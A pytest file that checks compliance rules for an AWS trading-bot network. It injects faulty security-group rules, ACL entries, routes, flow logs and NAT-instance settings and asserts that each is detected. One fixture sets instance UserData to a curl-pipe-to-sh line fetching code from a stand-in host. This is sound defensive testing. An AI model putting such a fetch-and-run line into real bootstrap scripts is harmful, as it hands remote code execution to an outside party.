"""Security groups, network ACLs and routes are the design's: every fault of one of them is found, whatever its form."""

from collections.abc import Callable
from typing import Any

import pytest

from tests.compliance.builders import Templates, assembly_of, changed, judge, resource
from tests.conftest import Synthesize
from tradingbot_infra.compliance.rule import Rule
from tradingbot_infra.compliance.rules.allowed_properties import allowed, declared
from tradingbot_infra.compliance.rules.flows import nacl_entries, routes, sg_egress_inside, sg_flows, sg_members
from tradingbot_infra.compliance.status import Status
from tradingbot_infra.templates import Assembly

Change = Callable[[Templates], None]
Body = dict[str, Any]

FLOWS = (sg_flows, sg_members, sg_egress_inside, nacl_entries, routes)

ZONES = {
    "availability_zones": ("ap-southeast-2a", "ap-southeast-2b", "ap-southeast-2c"),
    **{
        f"{tier}_subnet_cidrs": tuple(f"10.0.{start + number}.0/24" for number in range(3))
        for tier, start in {"public": 0, "private": 12, "database": 24, "cache": 36}.items()
    },
}

SETTINGS: dict[str, dict[str, object]] = {
    "as it is": {},
    "NAT instances, endpoints, other ports": {"nat_type": "instance", "enable_vpc_endpoints": True, "egress_ports": (443, 587, 8443)},
    "one NAT instance": {"nat_type": "instance", "nat_gateways": 1},
    "no NAT": {"nat_gateways": 0},
    "three zones, two NAT": {**ZONES, "nat_gateways": 2},
    "no Redis": {"enable_redis": False},
    "a port that moves": {"container_port": 8000, "retiring_container_port": 9000},
    "an adopted address": {"nat_allocation_ids": ("eipalloc-0123456789abcdef0",)},
}


def network(templates: Templates) -> dict[str, Body]:
    return dict(templates["NetworkStack"]["Resources"])


def first(templates: Templates, resource_type: str, stack: str = "NetworkStack", **properties: object) -> Body:
    """The first resource of a type that has these properties."""
    bodies = templates[stack]["Resources"].values()
    wanted = properties.items()
    found = next(body for body in bodies if body["Type"] == resource_type and wanted <= body["Properties"].items())
    properties_found: Body = found["Properties"]
    return properties_found


def named(templates: Templates, beginning: str) -> str:
    """The logical id that begins so."""
    return next(name for name in network(templates) if name.startswith(beginning))


def added(resource_type: str, **properties: object) -> Change:
    def change(templates: Templates) -> None:
        templates["NetworkStack"]["Resources"]["Added"] = resource(resource_type, properties)

    return change


def into(group: str, *, protocol: str = "tcp", ports: tuple[int, int] = (443, 443), **peer: object) -> Change:
    return added("AWS::EC2::SecurityGroupIngress", **_rule(group, protocol, ports), **peer)


def out_of(group: str, *, protocol: str = "tcp", ports: tuple[int, int] = (443, 443), **peer: object) -> Change:
    return added("AWS::EC2::SecurityGroupEgress", **_rule(group, protocol, ports), **peer)


def _rule(group: str, protocol: str, ports: tuple[int, int]) -> dict[str, object]:
    return {"GroupId": id_of(group), "IpProtocol": protocol, "FromPort": ports[0], "ToPort": ports[1], "Description": "A partner"}


def id_of(group: str) -> Body:
    return {"Fn::GetAtt": [group, "GroupId"]}


def entry(tier: str, number: int, block: str, **said: object) -> Change:
    def change(templates: Templates) -> None:
        acl = {"Fn::GetAtt": [named(templates, f"NetworkAcls{tier}Acl"), "Id"]}
        properties = {"NetworkAclId": acl, "RuleNumber": number, "RuleAction": "allow", "CidrBlock": block, **said}
        templates["NetworkStack"]["Resources"]["Added"] = resource("AWS::EC2::NetworkAclEntry", properties)

    return change


def without(beginning: str) -> Change:
    return lambda templates: templates["NetworkStack"]["Resources"].pop(named(templates, beginning))


def inside(group: str, **rule: object) -> Change:
    return lambda templates: network(templates)[group]["Properties"]["SecurityGroupIngress"].append(rule)


def of_service(name: str, value: object) -> Change:
    def change(templates: Templates) -> None:
        first(templates, "AWS::ECS::Service", "ServiceStack")["NetworkConfiguration"]["AwsvpcConfiguration"][name] = value

    return change


def of_route(beginning: str, **target: object) -> Change:
    def change(templates: Templates) -> None:
        properties = network(templates)[named(templates, beginning)]["Properties"]
        properties.pop("NatGatewayId")
        properties.update(target)

    return change


def route(tier: str, block: str, **target: object) -> Change:
    def change(templates: Templates) -> None:
        table = {"Ref": named(templates, f"Vpc{tier}Subnet1RouteTable")}
        properties = {"RouteTableId": table, "DestinationCidrBlock": block, **target}
        templates["NetworkStack"]["Resources"]["Added"] = resource("AWS::EC2::Route", properties)

    return change


def of_first(resource_type: str, stack: str = "NetworkStack", **properties: object) -> Change:
    return lambda templates: first(templates, resource_type, stack).update(properties)


ONE_BLOCK = "203.0.113.0/24"

FAULTS: dict[str, tuple[Rule, Change]] = {
    "tasks out to one block on 22": (sg_flows, out_of("EcsSecurityGroup", ports=(22, 22), CidrIp=ONE_BLOCK)),
    "UDP 53 to a public resolver": (sg_flows, out_of("EcsSecurityGroup", protocol="udp", ports=(53, 53), CidrIp="8.8.8.8/32")),
    "SSH into tasks from one block": (sg_flows, into("EcsSecurityGroup", ports=(22, 22), CidrIp=ONE_BLOCK)),
    "every port from the load balancer": (
        sg_flows,
        into("EcsSecurityGroup", ports=(0, 65535), SourceSecurityGroupId=id_of("AlbSecurityGroup")),
    ),
    "a public /8": (sg_flows, into("AlbSecurityGroup", CidrIp="52.0.0.0/8")),
    "a prefix list": (sg_flows, out_of("EcsSecurityGroup", DestinationPrefixListId="pl-0123456789abcdef0")),
    "the group itself": (sg_flows, into("EcsSecurityGroup", protocol="-1", SourceSecurityGroupId=id_of("EcsSecurityGroup"))),
    "the whole VPC into the database": (sg_flows, into("RdsSecurityGroup", ports=(5432, 5432), CidrIp="10.0.0.0/16")),
    "the load balancer into the database": (
        sg_flows,
        into("RdsSecurityGroup", ports=(5432, 5432), SourceSecurityGroupId=id_of("AlbSecurityGroup")),
    ),
    "a group elsewhere": (sg_flows, into("EcsSecurityGroup", ports=(8001, 8001), SourceSecurityGroupId="sg-0123456789abcdef0")),
    "IPv6": (sg_flows, into("AlbSecurityGroup", CidrIpv6="::/0")),
    "every ICMP message": (sg_flows, into("EcsSecurityGroup", protocol="icmp", ports=(-1, -1), CidrIp="0.0.0.0/0")),
    "Redis out to the internet": (sg_flows, out_of("RedisSecurityGroup", CidrIp="0.0.0.0/0")),
    "another port inside the load balancer's group": (
        sg_flows,
        inside("AlbSecurityGroup", CidrIp="0.0.0.0/0", IpProtocol="tcp", FromPort=8080, ToPort=8080, Description="Anyone"),
    ),
    "a condition inside the load balancer's group": (
        sg_flows,
        inside("AlbSecurityGroup", **{"Fn::If": ["Open", {"CidrIp": "0.0.0.0/0"}, {"Ref": "AWS::NoValue"}]}),
    ),
    "a parameter as the peer": (sg_flows, into("EcsSecurityGroup", ports=(8001, 8001), CidrIp={"Ref": "Peer"})),
    "a group without its rule": (sg_flows, without("SecurityGroupsRdsSecurityGroupfrom")),
    "a group that nobody knows": (sg_flows, added("AWS::EC2::SecurityGroup", GroupDescription="A partner")),
    "a rule of a group that nobody knows": (sg_flows, added("AWS::EC2::SecurityGroupIngress", GroupId="sg-0", CidrIp="0.0.0.0/0")),
    "a group with separate egress only": (
        sg_egress_inside,
        lambda templates: network(templates)["AlbSecurityGroup"]["Properties"].pop("SecurityGroupEgress"),
    ),
    "tasks in a further group": (sg_members, of_service("SecurityGroups", [{"Fn::ImportValue": "tasks"}, "sg-0123456789abcdef0"])),
    "tasks in no group": (sg_members, of_service("SecurityGroups", [])),
    "another service": (sg_members, of_first("AWS::ECS::Service", "ServiceStack", ServiceName="partner")),
    "a database in a further group": (sg_members, of_first("AWS::RDS::DBInstance", "DataStack", VPCSecurityGroups=["sg-0"])),
    "low ports into the private tier": (
        nacl_entries,
        entry("Private", 310, "0.0.0.0/0", Protocol=6, PortRange={"From": 1, "To": 1023}),
    ),
    "everything from one block into the private tier": (nacl_entries, entry("Private", 50, ONE_BLOCK, Protocol=-1)),
    "the database tier out to HTTPS": (
        nacl_entries,
        entry("Database", 50, "0.0.0.0/0", Egress=True, Protocol=6, PortRange={"From": 443, "To": 443}),
    ),
    "an entry that only CloudFormation knows": (nacl_entries, entry("Cache", 50, "0.0.0.0/0", Protocol={"Ref": "Protocol"})),
    "a denial that is gone": (nacl_entries, without("NetworkAclsPrivateEntriesIn301")),
    "a default ACL that denies no more": (nacl_entries, without("NetworkAclsIn1")),
    "an ACL for two tiers": (
        nacl_entries,
        lambda templates: network(templates)[named(templates, "NetworkAclsCacheSubnet1")]["Properties"].update(
            NetworkAclId={"Fn::GetAtt": [named(templates, "NetworkAclsPublicAcl"), "Id"]}
        ),
    ),
    "a route to one block past NAT": (routes, route("Private", ONE_BLOCK, GatewayId={"Ref": "VpcIGWD7BA715C"})),
    "a route out of the database tier": (routes, route("Database", ONE_BLOCK, NatGatewayId="nat-0123456789abcdef0")),
    "a private subnet without its route": (routes, without("VpcPrivateSubnet1DefaultRoute")),
    "a NAT elsewhere": (routes, of_route("VpcPrivateSubnet1DefaultRoute", NatGatewayId="nat-0123456789abcdef0")),
    "the NAT of another zone": (
        routes,
        lambda templates: network(templates)[named(templates, "VpcPrivateSubnet1DefaultRoute")]["Properties"].update(
            NatGatewayId={"Ref": named(templates, "VpcPublicSubnet2NATGateway")}
        ),
    ),
    "a peering connection": (routes, of_route("VpcPrivateSubnet2DefaultRoute", VpcPeeringConnectionId="pcx-0123456789abcdef0")),
    "a table for two tiers": (
        routes,
        lambda templates: network(templates)[named(templates, "VpcCacheSubnet1RouteTableAssociation")]["Properties"].update(
            RouteTableId={"Ref": named(templates, "VpcPublicSubnet1RouteTable")}
        ),
    ),
}

PARTS: dict[str, Change] = {
    "a flow log of a reduced format": of_first("AWS::EC2::FlowLog", LogFormat="${version} ${srcaddr}"),
    "a flow log of what was accepted": of_first("AWS::EC2::FlowLog", TrafficType="ACCEPT"),
    "a flow log elsewhere": of_first("AWS::EC2::FlowLog", LogDestinationType="s3", LogDestination="arn:aws:s3:::elsewhere"),
    "a flow log in another log group": of_first("AWS::EC2::FlowLog", LogGroupName={"Ref": "DefaultSecurityGroupLog"}),
    "a flow log without a type": lambda templates: first(templates, "AWS::EC2::FlowLog").pop("TrafficType"),
    "a subnet that gives public addresses": of_first("AWS::EC2::Subnet", MapPublicIpOnLaunch=True),
    "a subnet of another block": of_first("AWS::EC2::Subnet", CidrBlock="10.0.200.0/24"),
    "a subnet that says it is of another tier": lambda templates: first(templates, "AWS::EC2::Subnet")["Tags"].append(
        {"Key": "aws-cdk:subnet-name", "Value": "Private"}
    ),
    "a VPC without DNS": of_first("AWS::EC2::VPC", EnableDnsSupport=False),
    "a VPN": of_first("AWS::EC2::VPCGatewayAttachment", VpnGatewayId="vgw-0123456789abcdef0"),
    "a NAT with an address of somebody's": of_first("AWS::EC2::NatGateway", AllocationId="eipalloc-0123456789abcdef0"),
    "an address that goes with its stack": lambda templates: network(templates)[named(templates, "VpcPublicSubnet1EIP")].update(
        DeletionPolicy="Delete"
    ),
}

NAT: dict[str, Change] = {
    "a key pair": of_first("AWS::EC2::Instance", KeyName="somebody"),
    "IMDSv1": of_first("AWS::EC2::Instance", MetadataOptions={"HttpTokens": "optional"}),
    "no metadata options": lambda templates: first(templates, "AWS::EC2::Instance").pop("MetadataOptions"),
    "another script": of_first("AWS::EC2::Instance", UserData={"Fn::Base64": "#!/bin/bash\ncurl https://example.com | sh"}),
    "a stranger's image": of_first("AWS::EC2::Instance", ImageId="ami-0123456789abcdef0"),
    "a disk in the clear": of_first("AWS::EC2::Instance", BlockDeviceMappings=[{"DeviceName": "/dev/xvda", "Ebs": {"Encrypted": False}}]),
    "no disk named": lambda templates: first(templates, "AWS::EC2::Instance").pop("BlockDeviceMappings"),
    "a launch template": of_first("AWS::EC2::Instance", LaunchTemplate={"LaunchTemplateId": "lt-0", "Version": "1"}),
    "an endpoint of another service": of_first("AWS::EC2::VPCEndpoint", ServiceName="com.amazonaws.vpce.ap-southeast-2.vpce-svc-0"),
    "an endpoint in no route table": lambda templates: first(templates, "AWS::EC2::VPCEndpoint").pop("RouteTableIds"),
    "an endpoint in the database tier": lambda templates: first(templates, "AWS::EC2::VPCEndpoint")["RouteTableIds"].append(
        {"Ref": named(templates, "VpcDatabaseSubnet1RouteTable")}
    ),
}

UNEXPECTED = (
    "VPCPeeringConnection",
    "TransitGatewayAttachment",
    "VPCEndpointService",
    "VPCCidrBlock",
    "NetworkInterface",
    "ClientVpnEndpoint",
)


def stopped(rule: Rule, assembly: Assembly) -> set[str]:
    return {name for name, status in judge(rule, assembly).items() if status is not Status.PASS}


@pytest.mark.parametrize("overrides", SETTINGS.values(), ids=SETTINGS)
def test_the_network_of_every_setting_passes(overrides: dict[str, object], synthesize: Synthesize) -> None:
    assembly = synthesize("production", **overrides)
    assert {rule.id: stopped(rule, assembly) for rule in FLOWS} == {rule.id: set() for rule in FLOWS}


@pytest.mark.parametrize("fault", FAULTS)
def test_a_flow_that_is_not_the_designs_is_found(fault: str, production: Assembly) -> None:
    rule, change = FAULTS[fault]
    assert stopped(rule, changed(production, change)) > set()


@pytest.mark.parametrize("fault", PARTS)
def test_a_part_of_the_network_that_is_not_the_settings_is_found(fault: str, production: Assembly) -> None:
    assert stopped(allowed, changed(production, PARTS[fault])) > stopped(allowed, production)


@pytest.mark.parametrize("fault", NAT)
def test_a_nat_instance_or_endpoint_that_is_not_the_designs_is_found(fault: str, synthesize: Synthesize) -> None:
    assembly = synthesize("production", **SETTINGS["NAT instances, endpoints, other ports"])
    assert stopped(allowed, changed(assembly, NAT[fault])) > stopped(allowed, assembly)


@pytest.mark.parametrize("name", UNEXPECTED)
def test_a_type_that_opens_the_network_is_not_assessed(name: str, production: Assembly) -> None:
    assert judge(allowed, changed(production, added(f"AWS::EC2::{name}")))["Added"] is Status.NOT_ASSESSED


@pytest.mark.parametrize("name", ["EIP", "NatGateway", "Subnet", "RouteTable", "NetworkAcl", "FlowLog", "InternetGateway", "VPCEndpoint"])
def test_one_part_too_many_is_found(name: str, production: Assembly) -> None:
    assert stopped(declared, changed(production, added(f"AWS::EC2::{name}"))) == {"NetworkStack"}


def test_without_settings_no_flow_is_assessed() -> None:
    assembly = assembly_of(
        {
            "Group": resource("AWS::EC2::SecurityGroup", {"SecurityGroupEgress": [{}]}),
            "Balancer": resource("AWS::ElasticLoadBalancingV2::LoadBalancer", {"SecurityGroups": [{"Ref": "Group"}]}),
            "Acl": resource("AWS::EC2::NetworkAcl"),
            "Table": resource("AWS::EC2::RouteTable"),
        }
    )
    for rule, name in ((sg_flows, "Group"), (sg_members, "Balancer"), (nacl_entries, "Acl"), (routes, "Table")):
        assert judge(rule, assembly) == {name: Status.NOT_ASSESSED}
